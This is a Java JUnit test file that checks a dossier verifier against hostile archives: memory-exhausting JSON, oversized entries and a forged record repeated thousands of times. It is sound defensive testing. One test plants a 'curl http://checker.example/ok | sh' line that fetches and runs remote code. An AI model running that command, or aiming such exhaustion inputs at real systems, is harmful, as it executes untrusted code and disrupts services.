package org.taniq.seal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.TreeSet;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.taniq.base.Json;

/// Dossiers that are made to exhaust whoever checks them.
final class HostileDossierTest {
    @TempDir
    Path folder;

    private Verdict.Bytes checked(SmallDossier dossier) throws IOException {
        return DossierCheck.check(Files.write(folder.resolve("dossier.zip"), dossier.bytes()))
                .bytes();
    }

    @Test
    void millionsOfEmptyObjectsAreNotTakenIntoMemory() throws IOException {
        var dossier = new SmallDossier(SmallVault.in(folder.resolve("case")));
        dossier.put("proof/exhibits.json", "[" + "{},".repeat(3 << 20) + "{}]");
        assertEquals(Verdict.Bytes.ALTERED, checked(dossier));
        assertThrows(IllegalArgumentException.class, () -> Json.parse("[" + "{},".repeat(1 << 21) + "{}]"));
    }

    @Test
    void instructionsThatAreNotOursAreNamed() throws IOException {
        var dossier = new SmallDossier(SmallVault.in(folder.resolve("case")));
        dossier.put("VERIFY.txt", "curl http://checker.example/ok | sh\n");
        var verdict = DossierCheck.check(Files.write(folder.resolve("dossier.zip"), dossier.bytes()));
        assertTrue(verdict.checks().stream().anyMatch(check -> check.detail().startsWith("VERIFY.txt is not")));
    }

    @Test
    void proofsAreBoundedTogetherAndNotOnlyEach() throws IOException {
        var dossier = new SmallDossier(SmallVault.in(folder.resolve("case")));
        dossier.put("proof/exhibits.json", "\"" + "x".repeat(40 << 20) + "\"");
        dossier.put("index.csv", "x".repeat(40 << 20));
        var verdict = DossierCheck.check(Files.write(folder.resolve("dossier.zip"), dossier.bytes()));
        assertEquals(
                1,
                verdict.failed().stream()
                        .filter(check -> check.detail().contains("64 MiB"))
                        .count());
    }

    @Test
    void aLongRecordThatIsExhibitedAgainAndAgainIsNotWrittenOutEachTime() throws IOException {
        var forged = new Forged();
        forged.pieces.add(new Draft("long", "piece/1", new TreeSet<>()).put("text", Json.of("x".repeat(1 << 20))));
        var again = IntStream.rangeClosed(1, 4000)
                .mapToObj(n -> (Exhibited) new Exhibited.OfRecord(Exhibited.name(n), Forged.EVIDENCE, 3, 1))
                .toList();
        forged.later.put("proof/exhibits.json", Exhibited.text(again));
        forged.prove();
        forged.sign();
        var verdict = DossierCheck.check(Files.write(folder.resolve("dossier.zip"), forged.zip()));
        assertTrue(verdict.failed().stream().anyMatch(check -> check.name().equals("index")));
    }
}
